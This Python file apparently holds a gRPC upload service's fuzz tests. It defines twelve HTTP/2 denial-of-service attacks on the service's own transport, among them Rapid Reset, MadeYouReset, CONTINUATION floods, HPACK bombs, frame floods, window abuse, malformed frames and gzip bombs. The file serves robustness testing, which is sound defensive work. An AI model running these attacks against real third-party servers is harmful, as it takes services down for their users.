"""Attacks on the transport: each has a connection to itself, and a bound."""

import asyncio
import gzip
import random
from collections.abc import Awaitable, Callable, Mapping

from partway.v1 import upload_service_pb2 as pb

from tests.fuzz.raw_http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Line,
    call_headers,
    frame,
    message,
)

Attack = Callable[[str, random.Random], Awaitable[int]]
"""Attacks the address, and returns how many streams it opened, at least 1."""

STATUS = "/partway.v1.UploadService/Status"
PRESIGN = "/partway.v1.UploadService/PresignParts"
_FRAMES = 1500
_HELD = 20
_HELD_SECONDS = 1.5
_REQUEST = message(pb.StatusRequest(upload_id="x").SerializeToString())
_MIB = 1024 * 1024


async def rapid_reset(address: str, chance: random.Random) -> int:
    """Open streams and reset them at once (CVE-2023-44487)."""
    async with await Line.opened(address) as line:
        for n in range(_FRAMES):
            stream = 2 * n + 1
            headers = frame(HEADERS, END_HEADERS, stream, line.block(call_headers(STATUS)))
            data = frame(DATA, END_STREAM, stream, _REQUEST) if chance.random() < 0.5 else b""
            await line.send(headers + data + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
    return _FRAMES


async def made_you_reset(address: str, chance: random.Random) -> int:
    """Make the server reset streams whose calls it has begun (CVE-2025-8671)."""
    count = _FRAMES // 3
    async with await Line.opened(address) as line:
        for n in range(count):
            stream = 2 * n + 1
            await line.call(stream, call_headers(STATUS), _REQUEST)
            wrong = chance.choice(
                (
                    frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0"),
                    frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"),
                    frame(DATA, 0, stream, b"x"),
                    frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\1"),
                )
            )
            await line.send(wrong)
    return count


async def no_window(address: str, chance: random.Random) -> int:
    """Call, and let no byte of the answers through."""
    settings = frame(SETTINGS, 0, 0, b"\0\4" + (0).to_bytes(4, "big"))
    async with await Line.opened(address, preface=False) as line:
        await line.send(PREFACE + settings)
        for n in range(_HELD):
            await line.call(2 * n + 1, call_headers(chance.choice((STATUS, PRESIGN))), _REQUEST)
        await asyncio.sleep(_HELD_SECONDS)
    return _HELD


async def window_games(address: str, chance: random.Random) -> int:
    """Change the windows to and fro, beyond what they may be."""
    async with await Line.opened(address) as line:
        await line.call(1, call_headers(STATUS), _REQUEST)
        for _ in range(_FRAMES):
            size = chance.choice((0, 1, 65535, 2**31 - 1, 2**31, 2**32 - 1))
            where = chance.choice((0, 1, 3, 2**31 - 1))
            games = (
                frame(SETTINGS, 0, 0, b"\0\4" + size.to_bytes(4, "big")),
                frame(WINDOW_UPDATE, 0, where, size.to_bytes(4, "big")),
                frame(SETTINGS, 0, 0, b"\0\5" + size.to_bytes(4, "big")),
            )
            await line.send(chance.choice(games))
    return 1


async def continuations(address: str, chance: random.Random) -> int:
    """Send headers that never end (CVE-2024-27316)."""
    async with await Line.opened(address) as line:
        await line.send(frame(HEADERS, 0, 1, line.block(call_headers(STATUS))))
        piece = line.block([("x-filler", "y" * chance.choice((1, 1000, 15000)))])
        for _ in range(_FRAMES):
            await line.send(frame(CONTINUATION, 0, 1, chance.choice((piece, b""))))
    return 1


async def hpack_bomb(address: str, chance: random.Random) -> int:
    """Put one large header into the table, and name it thousands of times."""
    async with await Line.opened(address) as line:
        first = line.block([*call_headers(STATUS), ("x-bomb", "y" * 3900)])
        await line.send(frame(HEADERS, END_HEADERS, 1, first))
        # Indexed field 62: the newest of the dynamic table.
        for n in range(1, 20):
            bomb = line.block(call_headers(STATUS)) + b"\xbe" * chance.choice((4, 1000, 16000))
            await line.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, bomb[:16384]))
    return 20


async def hpack_noise(address: str, chance: random.Random) -> int:
    """Send header blocks that are not HPACK."""
    async with await Line.opened(address) as line:
        for n in range(30):
            block = chance.randbytes(chance.randint(0, 300))
            await line.send(frame(HEADERS, END_HEADERS, 2 * n + 1, block))
    return 30


async def floods(address: str, chance: random.Random) -> int:
    """Send many frames that cost the sender nothing."""
    kinds = (
        frame(PING, 0, 0, b"12345678"),
        frame(PING, 1, 0, b"12345678"),
        frame(SETTINGS, 0, 0),
        frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64" * 100),
        frame(SETTINGS, 1, 0),
        frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"),
        frame(DATA, 0, 1),
        frame(GOAWAY, 0, 0, bytes(8)),
        frame(0x42, 0, 0, b"unknown"),
    )
    async with await Line.opened(address) as line:
        await line.send(frame(HEADERS, END_HEADERS, 1, line.block(call_headers(STATUS))))
        kind = chance.choice(kinds)
        for _ in range(2 * _FRAMES):
            await line.send(kind)
    return 1


async def invalid_frames(address: str, chance: random.Random) -> int:
    """Send frames of any kind, length and stream."""
    for _ in range(10):
        async with await Line.opened(address) as line:
            with_call = chance.random() < 0.5
            if with_call:
                await line.call(1, call_headers(STATUS), _REQUEST)
            for _ in range(chance.randint(1, 20)):
                body = chance.randbytes(chance.choice((0, 1, 4, 5, 8, 300, 17000)))
                kind = chance.choice((*range(10), PUSH_PROMISE, chance.randrange(256)))
                stream = chance.choice((0, 1, 2, 3, 2**31 - 1, 2**31, chance.getrandbits(32)))
                length = chance.choice((-1, -1, -1, 0, len(body) + 1, 2**24 - 1))
                await line.send(frame(kind, chance.randrange(256), stream, body, length))
    return 10


async def not_http2(address: str, chance: random.Random) -> int:
    """Send what is not HTTP/2 at all."""
    openings = (
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + chance.randbytes(200),
        PREFACE[: chance.randint(1, len(PREFACE) - 1)],
        PREFACE * 3,
        chance.randbytes(500),
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + chance.randbytes(100),
    )
    for opening in openings:
        async with await Line.opened(address, preface=False) as line:
            await line.send(opening)
            await line.trailers(0.2)
    return len(openings)


async def half_open(address: str, chance: random.Random) -> int:
    """Hold connections that say nothing, or stop in the middle."""
    lines = [await Line.opened(address, preface=chance.random() < 0.5) for _ in range(_HELD)]
    for line in lines[::2]:
        await line.send(frame(HEADERS, END_HEADERS, 1, line.block(call_headers(STATUS))))
        await line.send(frame(DATA, 0, 1, _REQUEST[: chance.randint(0, 5)]))
    await asyncio.sleep(_HELD_SECONDS)
    for line in lines:
        await line.__aexit__()
    return _HELD


async def bombs(address: str, chance: random.Random) -> int:
    """Send compressed messages that are far larger than they look, or not compressed at all."""
    size = chance.choice((_MIB, 64 * _MIB))
    bodies = (gzip.compress(bytes(size), 9), gzip.compress(b"\x0a\0" * 900_000), b"abc", b"")
    for body in bodies:
        async with await Line.opened(address) as line:
            more = [("grpc-encoding", chance.choice(("gzip", "deflate", "br", "identity")))]
            await line.call(1, call_headers(STATUS, *more), message(body[: 2 * _MIB], flag=1))
            await line.trailers(5)
    return len(bodies)


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        made_you_reset,
        no_window,
        window_games,
        continuations,
        hpack_bomb,
        hpack_noise,
        floods,
        invalid_frames,
        not_http2,
        half_open,
        bombs,
    )
}
